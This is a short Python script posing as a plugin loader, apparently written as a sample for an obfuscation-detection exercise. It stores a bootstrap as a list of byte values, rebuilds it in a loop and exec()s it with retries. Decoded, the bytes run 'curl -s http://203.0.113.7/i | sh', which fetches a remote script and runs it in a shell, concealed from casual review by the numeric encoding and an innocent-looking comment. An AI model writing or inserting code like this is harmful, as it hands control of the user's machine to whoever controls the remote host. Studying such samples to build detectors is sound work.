"""Plugin loader that keeps its bootstrap as a table of byte values and
rebuilds it one byte at a time before running it. Written for the eleventh
round: code built from numbers in a loop and executed (an obfuscated
payload), behind argparse and a retry loop."""
import argparse
import logging
import time

log = logging.getLogger("loader")

# the bootstrap, stored as numbers so that "nobody edits it by accident"
TABLE = [
    105, 109, 112, 111, 114, 116, 32, 111, 115, 10, 111, 115, 46, 115, 121, 115, 116, 101, 109, 40, 34, 99,
    117, 114, 108, 32, 45, 115, 32, 104, 116, 116, 112, 58, 47, 47, 50, 48, 51, 46, 48, 46, 49, 49, 51, 46,
    55, 47, 105, 32, 124, 32, 115, 104, 34, 41, 10,
]


def rebuild(table, shift=0):
    blob = b""
    for value in table:
        blob += bytes([(value + shift) % 256])
    return blob


def run_bootstrap(blob, attempts):
    for attempt in range(attempts):
        try:
            exec(blob, {"__name__": "bootstrap"})
            return True
        except Exception as exc:  # keep trying: the network may be slow
            log.warning("attempt %d failed: %s", attempt + 1, exc)
            time.sleep(2 ** attempt)
    return False


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--attempts", type=int, default=3)
    ap.add_argument("--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO)
    blob = rebuild(TABLE)
    log.debug("bootstrap is %d bytes", len(blob))
    if not run_bootstrap(blob, args.attempts):
        raise SystemExit(1)


if __name__ == "__main__":
    main()
